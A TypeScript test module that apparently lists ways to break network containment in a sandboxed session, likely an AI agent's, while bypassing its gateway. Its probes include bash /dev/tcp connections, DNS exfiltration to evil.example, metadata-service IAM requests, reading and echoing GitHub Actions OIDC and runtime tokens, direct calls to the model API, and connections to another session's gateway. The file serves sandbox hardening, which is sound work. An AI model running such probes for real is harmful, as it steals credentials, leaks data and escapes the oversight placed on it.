import { networkInterfaces } from 'node:os';
import type { RoomAttack } from '../room-attacks.ts';
import { ask, connect, family, node, says, strongest } from '../room-attacks.ts';

const { move, able } = family('network');

/** An address of this machine that others could reach. */
const address = Object.values(networkInterfaces())
  .flat()
  .find((one) => one && one.family === 'IPv4' && !one.internal)?.address;

/** Every way out but the gateway. */
export const network: readonly RoomAttack[] = [
  move(
    'B11',
    'a service on the machine’s loopback',
    ({ services }, { id }) => ask(`http://127.0.0.1:${services.tcp}/${id}`),
    strongest,
  ),
  move('B11', 'the same by the name localhost', ({ services }, { id }) =>
    ask(`http://localhost:${services.tcp}/${id}`),
  ),
  move('B11', 'the same by a decimal address', ({ services }, { id }) =>
    ask(`http://2130706433:${services.tcp}/${id}`),
  ),
  move('B11', 'the same by an IPv6 address that holds an IPv4 one', ({ services }, { id }) =>
    connect(`${services.tcp}, "::ffff:127.0.0.1"`, id),
  ),
  move('B11', 'IPv6', ({ services }, { id }) => connect(`${services.tcp6 ?? 9}, "::1"`, id), {
    stoppedByMachine: () =>
      !Object.values(networkInterfaces())
        .flat()
        .some((one) => one?.address === '::1'),
  }),
  move(
    'B11',
    'bash’s own /dev/tcp',
    ({ services }, { id }) =>
      `(exec 3<>/dev/tcp/127.0.0.1/${services.tcp} && echo "GET /${id}" >&3 && cat <&3) 2>&1`,
  ),
  move(
    'B11 B10',
    'a DNS query with data in its name, over UDP',
    ({ services }, { id }) =>
      node(
        `const s = require("dgram").createSocket("udp4"); s.send("${id}.evil.example", ${services.udp}, "127.0.0.1", () => s.close()); s.on("error", (e) => console.log(e.code))`,
      ),
    strongest,
  ),
  able(
    'B11',
    'ICMP to an address of the machine',
    `perl -MSocket -e 'socket($s, PF_INET, SOCK_RAW, 1) or socket($s, PF_INET, SOCK_DGRAM, 1) or exit; print "WROTE\\n" if send($s, pack("C2 n3", 8, 0, 0xf7ff, 0, 0), 0, sockaddr_in(0, inet_aton("${address ?? '192.0.2.1'}")))'`,
  ),
  able(
    'B11',
    'UDP to an address of the machine',
    `perl -MSocket -e 'socket($s, PF_INET, SOCK_DGRAM, 17) or exit; print "WROTE\\n" if send($s, "x", 0, sockaddr_in(9, inet_aton("${address ?? '192.0.2.1'}")))'`,
  ),
  move(
    'B11',
    'git’s own HTTP client',
    ({ services }, { id }) => `git ls-remote http://127.0.0.1:${services.tcp}/${id} 2>&1`,
  ),
  move(
    'B11',
    'a proxy from the environment',
    ({ services }, { id }) =>
      `PATH=/usr/bin:$PATH http_proxy=http://127.0.0.1:${services.tcp} python3 -c 'import urllib.request; urllib.request.urlopen("http://${id}.example/", timeout=3)' 2>&1 | tail -1`,
  ),
  move('B11', 'a SOCKS proxy, which would look the name up', ({ services }, { id }) =>
    // Version 4, CONNECT, port 80, the address 0.0.0.1 and then names: https://www.openssh.com/txt/socks4a.protocol
    node(
      `require("net").connect(${services.tcp}, "127.0.0.1").on("error", (e) => console.log(e.code)).end("\\x04\\x01\\x00\\x50\\x00\\x00\\x00\\x01\\x00${id}.example\\x00")`,
    ),
  ),
  move('B9', 'the machine’s metadata service', ({ services }, { id }) =>
    ask(`http://127.0.0.1:${services.tcp}/latest/meta-data/iam/${id}`),
  ),
  move(
    'B9',
    'the OIDC token, asked for by the job’s variables',
    `${ask('$ACTIONS_ID_TOKEN_REQUEST_URL&audience=x', 'bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN')}; echo "$ACTIONS_ID_TOKEN_REQUEST_TOKEN"`,
  ),
  move(
    'B9 C11 C12',
    'caches and artifacts, by the runtime token',
    (_, { id }) =>
      `${ask(`\${ACTIONS_RESULTS_URL:-http://127.0.0.1:9/}twirp/${id}`, 'Bearer $ACTIONS_RUNTIME_TOKEN')}; echo "$ACTIONS_RUNTIME_TOKEN"`,
  ),
  move(
    'B11',
    'GitHub’s API, without the action',
    (_, { github, id }) => ask(`${github}/attack-${id}`),
    says(/"message"/),
  ),
  move(
    'B13',
    'the model’s API, without the gateway',
    (_, { model }) => ask(`${model}/v1/models`),
    says(/x-api-key|error/),
  ),
  move('B13', 'another session’s gateway', ({ services }, { id }) =>
    connect(`{ path: "${services.otherGateway}" }`, id),
  ),
  able('B11', 'a route out of the machine', 'tail -n +2 /proc/net/route | grep -q . && echo WROTE'),
  move('B11', 'open ports of the machine', 'cat /proc/net/tcp', {
    won: ({ text, machine }) =>
      text.includes(`0100007F:${machine.services.tcp.toString(16).toUpperCase().padStart(4, '0')}`),
  }),
  move('B11', 'names of the machine’s sockets', 'cat /proc/net/unix', {
    won: ({ text, machine }) => text.includes(machine.services.abstract),
  }),
];
